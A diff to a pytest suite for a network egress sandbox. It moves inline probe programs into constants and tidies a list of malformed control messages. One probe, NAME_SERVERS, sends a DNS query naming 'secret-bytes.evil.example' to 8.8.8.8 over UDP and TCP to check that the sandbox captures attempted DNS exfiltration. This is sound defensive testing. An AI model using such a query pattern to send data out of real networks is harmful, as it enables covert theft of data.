@@ -39,6 +39,28 @@ with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=30) as so
     assert sock.recv(1) == b""
 print("all of it")
 """
+MAIL = """
+import socket
+sock = socket.create_connection(("other.example.com", 25), timeout=30)
+try:
+    print(sock.recv(1))
+except ConnectionResetError:
+    print("reset")
+"""
+NAME_SERVERS = """
+import socket, struct
+labels = b"".join(bytes([len(label)]) + label for label in b"secret-bytes.evil.example".split(b"."))
+question = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)
+def network(answer):
+    return ".".join(socket.inet_ntoa(answer[-4:]).split(".")[:2])
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+udp.settimeout(30)
+udp.sendto(question, ("8.8.8.8", 53))
+print(network(udp.recv(512)))
+tcp = socket.create_connection(("8.8.8.8", 53), timeout=30)
+tcp.sendall(struct.pack("!H", len(question)) + question)
+print(network(tcp.recv(512)))
+"""
 
 
 @pytest.fixture(scope="module")
@@ -78,7 +100,7 @@ def test_a_refusal_says_why(net: Lab) -> None:
     assert answer.startswith("403 shed: a connection to other.example.com:80 is not allowed: no rule allows it\n")
     assert "shed egress log dev" in answer
     assert "ACCESS_DENIED" in fetch(net, "https://other.example.com/").upper().replace(" ", "_")
-    program = "import socket; s=socket.create_connection(('other.example.com',25),timeout=30)\ntry: print(s.recv(1))\nexcept ConnectionResetError: print('reset')"
+    program = MAIL
     assert net.python(program) == "reset\n"
     assert [entry["allowed"] for entry in net.decisions()[-3:]] == [False, False, False]
 
@@ -145,19 +167,8 @@ def test_nothing_but_tcp_and_name_service_leaves(net: Lab) -> None:
 
 def test_every_name_server_is_ours(net: Lab) -> None:
     """A query to any address is answered here, also by TCP, and no name that is not allowed is asked for elsewhere."""
-    program = """
-import socket, struct, sys
-def query(name):
-    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack("!2H", 1, 1)
-question = query("secret-bytes.evil.example")
-udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(30)
-udp.sendto(question, ("8.8.8.8", 53)); print(socket.inet_ntoa(udp.recv(512)[-4:]).rpartition(".")[0].rpartition(".")[0])
-tcp = socket.create_connection(("8.8.8.8", 53), timeout=30)
-tcp.sendall(struct.pack("!H", len(question)) + question)
-print(socket.inet_ntoa(tcp.recv(512)[-4:]).rpartition(".")[0].rpartition(".")[0])
-"""
     net.rule()
-    first, second = net.python(program).split()
+    first, second = net.python(NAME_SERVERS).split()
     assert first == second
     assert first in {"198.18", "198.19"}
 
@@ -256,8 +267,14 @@ def test_a_relay_that_is_killed_lets_nothing_out_until_it_is_back(net: Lab) -> N
 
 def test_nonsense_from_the_control_socket_ends_nothing(net: Lab) -> None:
     """Unknown words, bad rules, missing sockets are answered; bytes that are no message end that connection alone."""
-    for message in ({}, {"do": "dance", "shed": "dev", "profiles": {}}, {"do": "open", "shed": "x", "profiles": {}},
-                    {"do": "rule", "shed": "nobody", "profiles": {}}, {"do": "rule", "shed": "dev", "profiles": {"p": {"rules": [3]}}}):  # fmt: skip
+    bad_rule = {"p": {"rules": [3]}}
+    for message in (
+        {},
+        {"do": "dance", "shed": "dev", "profiles": {}},
+        {"do": "open", "shed": "x", "profiles": {}},
+        {"do": "rule", "shed": "nobody", "profiles": {}},
+        {"do": "rule", "shed": "dev", "profiles": bad_rule},
+    ):
         assert "error" in net.do(message)
     from shed.egress.netdfiles import SOCKET
 
